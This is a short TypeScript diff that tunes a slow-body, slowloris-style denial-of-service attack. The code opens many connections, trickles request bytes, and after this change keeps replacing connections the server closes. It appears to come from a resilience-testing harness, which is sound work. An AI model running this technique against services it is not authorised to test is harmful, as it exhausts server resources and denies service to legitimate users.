@@ -6,8 +6,10 @@ import type { Attack } from './target.ts'
 
 /** More than the limit of descriptors, and far fewer than the machine can take. */
 const connectionsMax = 1_500
-const openedPerTick = 30
 const tickMs = 50
+const openedPerTick = 30
+/** Once as many were opened as there may be, the API closes some, and an attacker only replaces them. */
+const reopenedPerTick = 5
 const oneByte = Buffer.from(' ')
 const oneByteChunk = Buffer.from('1\r\n \r\n')
 const mebibyte = 1_048_576
@@ -65,7 +67,8 @@ export const slowBody: Attack = async ({ keys }) => {
       })
     }
     for (let tick = 0; !signal.aborted; tick += 1) {
-      for (let at = 0; at < openedPerTick && connections < connectionsMax; at += 1) openOne()
+      const atMost = opened < connectionsMax ? openedPerTick : reopenedPerTick
+      for (let at = 0; at < atMost && connections < connectionsMax; at += 1) openOne()
       if (tick % (1000 / tickMs) === 0) for (const trickle of trickling) trickle()
       await sleep(tickMs, undefined, { signal }).catch(() => undefined)
     }
